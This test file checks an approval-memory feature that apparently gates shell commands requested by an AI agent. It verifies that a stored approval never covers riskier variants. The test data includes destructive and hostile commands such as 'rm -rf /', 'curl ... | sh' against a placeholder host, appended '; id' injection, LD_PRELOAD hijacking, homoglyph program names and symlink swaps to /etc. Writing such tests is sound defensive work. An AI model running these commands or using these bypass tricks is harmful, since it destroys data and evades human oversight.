import {
  chmodSync,
  linkSync,
  mkdirSync,
  mkdtempSync,
  readFileSync,
  realpathSync,
  rmSync,
  statSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';

import { afterAll, afterEach, beforeEach, describe, expect, it, vi } from 'vitest';

import type { Principal } from '../../../../src/core/principal.js';
import { HOUR_MS, type RememberScope } from '../../../../src/core/remember-scopes.js';
import type { PolicyRequest } from '../../../../src/core/policy/analysis/inspect.js';
import { decide, type Policy, PRESETS } from '../../../../src/core/policy/policy.js';
import { compileRule } from '../../../../src/core/policy/rules.js';
import { factsOfFreshShell, type PolicyFacts } from '../../../../src/core/policy/model.js';
import type { JudgedRequest } from '../../../../src/services/approval-coverage.js';
import {
  type ApprovalRecord,
  MAX_REMEMBERED,
  RememberedApprovals,
} from '../../../../src/services/remembered-approvals.js';
import { RememberedGuard } from '../../../../src/services/checkpoints/checkpoint-guard.js';
import { placeOf } from '../../../../src/services/gate/gate.js';
import type { SessionRecord } from '../../../../src/services/registry/session-registry.js';

const AGENT: Principal = { id: 'token_a', name: 'agent', role: 'agent', isLocalPeer: false };
const OPERATOR: Principal = { id: 'token_o', name: 'olga', role: 'operator', isLocalPeer: false };
const LOCAL: Principal = { id: 'local', name: 'local', role: 'admin', isLocalPeer: true };

/** Without checkpoints, and with a rule for what is allowed otherwise. */
const PUSH = compileRule({ action: 'confirm', program: ['git'], args: ['push'], reason: 'pushes' }, undefined);
const POLICY: Policy = {
  actions: { ...PRESETS.balanced, destructive: 'confirm', execute: 'confirm' },
  rules: 'rule' in PUSH ? [PUSH.rule] : [],
};

let root: string;
let workspace: string;
let records: ApprovalRecord[];
let approvals: RememberedApprovals;
let mode: 'self' | 'operator';
/** The directories of the tests are removed while later tests run: some file systems take milliseconds for each directory. */
const removals: Promise<void>[] = [];

const file = () => join(root, 'state', 'approvals.json');
const open = () =>
  new RememberedApprovals(
    { workspace, path: `${join(root, 'bin')}:/usr/bin:/bin`, sandbox: () => 'none' },
    file(),
    () => ({ mode, modes: {} }),
    (record) => records.push(record),
    { debug: vi.fn(), info: vi.fn(), warn: vi.fn(), error: vi.fn() },
  );

beforeEach(() => {
  root = realpathSync(mkdtempSync(join(tmpdir(), 'shell-adapter-approvals-')));
  workspace = join(root, 'ws');
  for (const directory of ['ws/src', 'ws/build', 'ws/.hidden', 'out', 'bin'])
    mkdirSync(join(root, directory), { recursive: true });
  for (const name of ['src/a.ts', 'src/b.ts', 'src/c.js', 'src/deep.d.ts', 'build/a.ts', '.hidden/a.ts', 'script.sh'])
    writeFileSync(join(workspace, name), name);
  symlinkSync(join(root, 'out'), join(workspace, 'link'));
  symlinkSync(join(workspace, 'build', 'a.ts'), join(workspace, 'src', 'link.ts'));
  linkSync(join(workspace, 'build', 'a.ts'), join(workspace, 'src', 'twice.ts'));
  records = [];
  mode = 'self';
  approvals = open();
});
afterEach(() => {
  approvals[Symbol.dispose]();
  vi.useRealTimers();
  removals.push(rm(root, { recursive: true, force: true }));
});
afterAll(() => Promise.all(removals));

interface Changes extends Partial<PolicyFacts> {
  readonly session?: string;
}

/** Judges a request as the gate does. */
function judge(given: string | PolicyRequest, { session, ...facts }: Changes = {}): JudgedRequest {
  const request = typeof given === 'string' ? { command: given } : given;
  const known = factsOfFreshShell(workspace, { home: '/home/user', ...facts });
  const verdict = decide(POLICY, request, known);
  const record = session === undefined ? undefined : ({ id: session, sandbox: 'none' } as SessionRecord);
  return { request, verdict, place: placeOf(request as never, record, known, verdict) };
}

const remember = (judged: JudgedRequest, scope: RememberScope = 'hour', approver = AGENT, requester = AGENT) =>
  approvals.remember({ judged, scope, requester, approver, mode });

const isCovered = (judged: JudgedRequest, by = AGENT) => approvals.find(judged, by) !== undefined;

const codeOf = (act: () => unknown): string => {
  try {
    act();
    return 'ok';
  } catch (error) {
    const { code, message } = error as { code: string; message: string };
    return `${code}: ${message}`;
  }
};

describe('a remembered approval', () => {
  it.each([
    ['the same command', 'rm -rf /home/user/build', 'rm -rf /home/user/build'],
    ['other quotes and blanks', 'rm -rf /home/user/build', `rm  -rf "/home/user/"'build'`],
    ['another file of the directory', 'rm -f src/a.ts', 'rm -f src/b.ts'],
    ['another file, with another path to it', 'rm src/a.ts', 'rm ./src/b.ts'],
    ['two files', 'rm src/a.ts src/c.js', 'rm src/b.ts src/c.js'],
    ['the same pipeline', 'echo x | sudo tee /etc/x', 'echo x | sudo tee /etc/x'],
  ])('covers %s', (_what, approved, now) => {
    remember(judge(approved));
    expect(isCovered(judge(now))).toBe(true);
  });

  it.each([
    ['an option more', 'git push origin main', 'git push --force origin main'],
    ['an option at the end', 'git push origin main', 'git push origin main --force'],
    ['another operand', 'git push origin main', 'git push evil main'],
    ['an operand more', 'git push origin main', 'git push origin main x'],
    ['an operand less', 'git push origin main', 'git push origin'],
    ['a refspec that forces', 'git push origin main', 'git push origin +main'],
    ['another subcommand', 'git push origin main', 'git fetch origin main'],
    ['an option before the subcommand', 'git push origin main', 'git -C /x push origin main'],
    ['the root', 'rm -rf build', 'rm -rf /'],
    ['a parent', 'rm -rf build', 'rm -rf ../x'],
    ['the parent by way of the directory', 'rm -rf build', 'rm -rf build/..'],
    ['the home directory', 'rm -rf build', 'rm -rf ~'],
    ['another directory', 'rm -rf build', 'rm -rf src'],
    ['options apart', 'rm -rf build', 'rm -r -f build'],
    ['options in another order', 'rm -rf build', 'rm -fr build'],
    ['--', 'rm -rf build', 'rm -rf -- build'],
    ['an option after --', 'rm -- src/a.ts', 'rm -- -rf'],
    ['an option with =', 'chmod 600 src/a.ts', 'chmod 600 --reference=src/a.ts'],
    ['an option in place of a file', 'rm src/a.ts', 'rm -rf'],
    ['a file of another directory', 'rm src/a.ts', 'rm build/a.ts'],
    ['a file with another extension', 'rm src/a.ts', 'rm src/c.js'],
    ['a directory in place of a file', 'rm src/a.ts', 'rm src'],
    ['a link in place of a file', 'rm src/a.ts', 'rm src/link.ts'],
    ['a file that is elsewhere, too', 'rm src/a.ts', 'rm src/twice.ts'],
    ['a missing file', 'rm src/a.ts', 'rm src/none.ts'],
    ['a file by way of the parent', 'rm src/a.ts', 'rm src/../build/a.ts'],
    ['a hidden directory', 'rm src/a.ts', 'rm .hidden/a.ts'],
    ['a pattern', 'rm src/a.ts', 'rm src/*.ts'],
    ['two names by braces', 'rm src/a.ts', 'rm src/{a,b}.ts'],
    ['another file of another program', 'bash src/a.ts', 'bash src/b.ts'],
    ['a look-alike letter', 'git push origin main', 'git push origin mаin'],
    ['a look-alike program', 'git push origin main', 'gіt push origin main'],
    ['a program by its path', 'git push origin main', '/tmp/git push origin main'],
    ['a command before', 'rm -rf build', 'cd / && rm -rf build'],
    ['a command after', 'rm -rf build', 'rm -rf build; id'],
    ['a variable before', 'git push origin main', 'GIT_SSH_COMMAND=/tmp/x git push origin main'],
    ['the background', 'rm -rf build', 'rm -rf build &'],
    ['a redirection after', 'rm -rf build', 'rm -rf build > x'],
    ['a redirection of input', 'git push origin main', 'git push origin main < x'],
    ['a wrapper', 'git push origin main', 'sudo git push origin main'],
    ['a second line', 'rm -rf build', 'rm -rf build\nrm -rf src'],
    ['a substitution', 'rm -rf build', 'rm -rf $(echo build)'],
    ['one word for two', 'rm -rf build', 'rm "-rf build"'],
    ['another text', 'echo x | sudo tee /etc/x', 'echo y | sudo tee /etc/x'],
    ['another inner text', `sudo sh -c 'rm x'`, `sudo sh -c 'rm y'`],
  ])('does not cover %s', (_what, approved, now) => {
    remember(judge(approved));
    expect(isCovered(judge(approved))).toBe(true);
    expect(isCovered(judge(now))).toBe(false);
  });

  it.each<[string, PolicyRequest | string, Changes]>([
    ['another directory', 'rm -rf build', { directories: ['/tmp'] }],
    ['an unknown directory', 'rm -rf build', { directories: [undefined] }],
    ['another shell', 'rm -rf build', { shell: 'zsh' }],
    ['an alias', 'rm -rf build', { aliases: new Map([['rm', 'ls']]) }],
    ['an alias of an operand', 'rm -rf build', { aliases: new Map([['build', '/']]) }],
    ['a function', 'rm -rf build', { functions: new Map([['rm', '{ ls; }']]) }],
    ['unknown names', 'rm -rf build', { areNamesUnknown: true }],
    ['another PATH', 'rm -rf build', { isPathChanged: true }],
    ['variables', { command: 'rm -rf build', env: { LD_PRELOAD: '/tmp/x.so' } }, {}],
    ['another input', { command: 'rm -rf build', stdin: 'y' }, {}],
    ['a terminal', { command: 'rm -rf build', tty: true } as PolicyRequest, {}],
    ['a sandbox', { command: 'rm -rf build', sandbox: 'strict' } as PolicyRequest, {}],
  ])('does not cover %s', (_what, now, changes) => {
    remember(judge('rm -rf build'));
    expect(isCovered(judge('rm -rf build'))).toBe(true);
    expect(isCovered(judge(now, changes))).toBe(false);
  });

  it.each<[string, string, () => void]>([
    [
      'a link leads elsewhere',
      'rm -rf link/x',
      () => {
        rmSync(join(workspace, 'link'));
        symlinkSync(join(workspace, 'src'), join(workspace, 'link'));
      },
    ],
    [
      'a directory has become a link',
      'rm -rf build/',
      () => {
        rmSync(join(workspace, 'build'), { recursive: true });
        symlinkSync('/etc', join(workspace, 'build'));
      },
    ],
    [
      'a script has changed',
      'bash script.sh',
      () => {
        writeFileSync(join(workspace, 'script.sh'), 'evil');
      },
    ],
    [
      'PATH leads to another program',
      'git push origin main',
      () => {
        writeFileSync(join(root, 'bin', 'git'), '', { mode: 0o755 });
      },
    ],
  ])('does not count when %s', (_what, command, change) => {
    remember(judge(command));
    expect(isCovered(judge(command))).toBe(true);
    change();
    expect(isCovered(judge(command))).toBe(false);
  });

  it.each([
    ['a variable', 'rm -rf $HOME/x', 'a variable or substitution'],
    ['a substitution', 'rm -rf `pwd`/x', 'a command substitution'],
    ['a here-document', 'sudo tee /etc/x <<E\nx\nE', 'a here-document'],
    ['a pattern', 'rm -rf build/*', 'a pattern of file names'],
    ['a pattern in a redirection', 'sudo id > /etc/x*', 'a pattern of file names'],
    ['an inner variable', `sudo sh -c 'rm $x'`, 'a variable'],
    ['the home directory', 'rm -rf ~/x', 'write the path in full'],
    ['names from a file', 'xargs rm < script.sh', 'known only when it runs'],
    ['code from the network', 'curl -s https://x.example | sh', 'known only when it runs'],
    ['a job', 'kill %1', 'the number of a job'],
  ])('is refused for %s', (_what, command, why) => {
    expect(codeOf(() => remember(judge(command)))).toMatch(new RegExp(`^INVALID_REQUEST: .*${why}`));
    expect(approvals.seenBy(OPERATOR)).toEqual([]);
  });

  it('counts for its requester alone', () => {
    remember(judge('rm -rf build'), 'hour', OPERATOR);
    expect(isCovered(judge('rm -rf build'), OPERATOR)).toBe(false);
    expect(isCovered(judge('rm -rf build'))).toBe(true);
  });

  it('is not enough for a stricter mode', () => {
    remember(judge('rm -rf build'));
    mode = 'operator';
    expect(isCovered(judge('rm -rf build'))).toBe(false);
  });

  it('of a session counts in it alone, until it ends', () => {
    remember(judge('rm -rf build', { session: 's1' }), 'session');
    expect(isCovered(judge('rm -rf build', { session: 's1' }))).toBe(true);
    expect(isCovered(judge('rm -rf build', { session: 's2' }))).toBe(false);
    expect(isCovered(judge('rm -rf build'))).toBe(false);
    approvals.endSession('s1');
    expect(isCovered(judge('rm -rf build', { session: 's1' }))).toBe(false);
    expect(records.map(({ event }) => event)).toEqual(['remembered', 'expired']);
    expect(codeOf(() => remember(judge('rm -rf build'), 'session'))).toMatch(/^INVALID_REQUEST: .*without a session/);
  });

  it('of an hour counts across sessions, and expires', () => {
    vi.useFakeTimers();
    remember(judge('rm -rf build', { session: 's1' }));
    vi.advanceTimersByTime(HOUR_MS - 1);
    expect(isCovered(judge('rm -rf build', { session: 's2' }))).toBe(true);
    vi.advanceTimersByTime(1);
    expect(isCovered(judge('rm -rf build', { session: 's1' }))).toBe(false);
    expect(records.map(({ event }) => event)).toEqual(['remembered', 'expired']);
  });

  it('takes the place of an earlier one', () => {
    const [first, second] = [remember(judge('rm -rf build')), remember(judge('rm -rf build'))];
    expect(approvals.seenBy(AGENT)).toEqual([second]);
    expect(codeOf(() => approvals.revoke(first.id, AGENT))).toMatch(/^APPROVAL_NOT_FOUND/);
  });

  it('is seen and revoked by its requester and by operators', () => {
    const { id } = remember(judge('rm -rf build'));
    const other = { ...AGENT, id: 'token_b' };
    expect(approvals.seenBy(other)).toEqual([]);
    expect(codeOf(() => approvals.revoke(id, other))).toMatch(/^APPROVAL_NOT_FOUND/);
    approvals.revoke(id, OPERATOR);
    expect(isCovered(judge('rm -rf build'))).toBe(false);
    expect(records.at(-1)).toMatchObject({ event: 'revoked', by: OPERATOR });
  });

  it('is one of a limited number', () => {
    for (let index = 0; index < MAX_REMEMBERED; index += 1) remember(judge(`rm -rf build/${index}`));
    expect(codeOf(() => remember(judge('rm -rf build')))).toMatch(/^INVALID_REQUEST: 64 approvals/);
  });
});

describe('a command that is covered', () => {
  const guardedBy = (save: () => void) =>
    new RememberedGuard(approvals, () => {
      save();
      return Promise.resolve({ checkpointId: 'checkpoint_x', warnings: [] });
    });

  it('runs with a warning after the checkpoint, and is recorded', async () => {
    const { id } = remember(judge('rm -rf build'));
    const saved = await guardedBy(() => undefined).admit(judge('rm -rf build'), AGENT, () => true);
    expect(saved).toMatchObject({ checkpointId: 'checkpoint_x', warnings: [{ code: 'REMEMBERED_APPROVAL' }] });
    expect(records.at(-1)).toMatchObject({ event: 'used', approval: { id }, command: 'rm -rf build' });
  });

  it.each<[string, () => void]>([
    ['the approval is revoked', () => approvals.seenBy(AGENT).forEach(({ id }) => approvals.revoke(id, AGENT))],
    [
      'its directory becomes a link',
      () => {
        rmSync(join(workspace, 'build'), { recursive: true });
        symlinkSync(join(root, 'out'), join(workspace, 'build'));
      },
    ],
  ])('is confirmed if %s while the workspace is saved', async (_what, during) => {
    remember(judge('rm -rf build'));
    expect(await guardedBy(during).admit(judge('rm -rf build'), AGENT, () => true)).toBeUndefined();
    expect(records.map(({ event }) => event)).not.toContain('used');
  });

  it('is confirmed if its session is busy', () => {
    remember(judge('rm -rf build'));
    expect(guardedBy(() => undefined).admit(judge('rm -rf build'), AGENT, () => false)).toBeUndefined();
  });
});

describe('an approval that is always remembered', () => {
  it.each([
    ['an agent', AGENT, 'FORBIDDEN'],
    ['a program without a token', LOCAL, 'FORBIDDEN'],
    ['an operator', OPERATOR, 'ok'],
    ['an admin', { ...OPERATOR, role: 'admin' } as const, 'ok'],
  ])('by %s', (_who, approver, code) => {
    expect(codeOf(() => remember(judge('rm -rf build'), 'always', approver)).split(':')[0]).toBe(code);
  });

  it('is a rule with tests in a private file, and counts in the next run', () => {
    remember(judge('git push origin main'), 'always', OPERATOR);
    const { id } = remember(judge('rm src/a.ts'), 'always', OPERATOR);
    expect(statSync(file()).mode & 0o777).toBe(0o600);
    const stored = JSON.parse(readFileSync(file(), 'utf8')) as { approvals: { id: string; rule: object }[] };
    expect(stored.approvals.find((each) => each.id === id)?.rule).toEqual({
      action: 'allow',
      program: ['rm'],
      regex: String.raw`\Arm [\w./+@-]*\.ts\z`,
      path: [join(workspace, 'src/*.ts')],
      match: ['rm src/a.ts'],
      not_match: ['rm src/a.ts --force', 'rm src/a.ts /', 'rmx src/a.ts'],
      reason: 'a remembered approval: rm src/a.ts',
    });
    approvals = open();
    expect(approvals.problem).toBeUndefined();
    expect(isCovered(judge('git push origin main'))).toBe(true);
    expect(isCovered(judge('rm src/b.ts'))).toBe(true);
    expect(isCovered(judge('rm src/c.js'))).toBe(false);
    approvals.revoke(id, OPERATOR);
    approvals = open();
    expect(isCovered(judge('rm src/b.ts'))).toBe(false);
  });

  it('cannot be several commands', () => {
    const refused = codeOf(() => remember(judge('echo x | sudo tee /etc/x'), 'always', OPERATOR));
    expect(refused).toMatch(/^INVALID_REQUEST: .*cannot be written as a rule/);
  });

  it.each<[string, () => void, string]>([
    [
      'no JSON',
      () => {
        writeFileSync(file(), '{');
      },
      'is damaged',
    ],
    [
      'other fields',
      () => {
        writeFileSync(file(), '{"version":2}');
      },
      'is damaged',
    ],
    [
      'a rule that fails its test',
      () => {
        change((text) => text.replace(/("match": \[\s*"git push) origin/, '$1 evil'));
      },
      'this test of the rule fails',
    ],
    [
      'a rule that allows more',
      () => {
        change((text) => text.replace(/"regex": ".*"/, '"regex": "git"'));
      },
      'this test of the rule fails',
    ],
    [
      'a rule without tests',
      () => {
        change((text) => text.replace(/"not_match": \[[^\]]*\]/, '"not_match": []'));
      },
      'no tests',
    ],
    [
      'permissions for others',
      () => {
        chmodSync(file(), 0o644);
      },
      'chmod 600',
    ],
  ])('does not count from a file with %s, which is not overwritten', (_what, damage, why) => {
    remember(judge('git push origin main'), 'always', OPERATOR);
    damage();
    const content = readFileSync(file(), 'utf8');
    approvals = open();
    expect(approvals.problem).toContain(why);
    expect(isCovered(judge('git push origin main'))).toBe(false);
    const refused = codeOf(() => remember(judge('rm -rf build'), 'always', OPERATOR));
    expect(refused).toMatch(/^APPROVALS_UNAVAILABLE/);
    expect(readFileSync(file(), 'utf8')).toBe(content);
  });
});

const change = (edit: (text: string) => string): void => {
  writeFileSync(file(), edit(readFileSync(file(), 'utf8')));
};
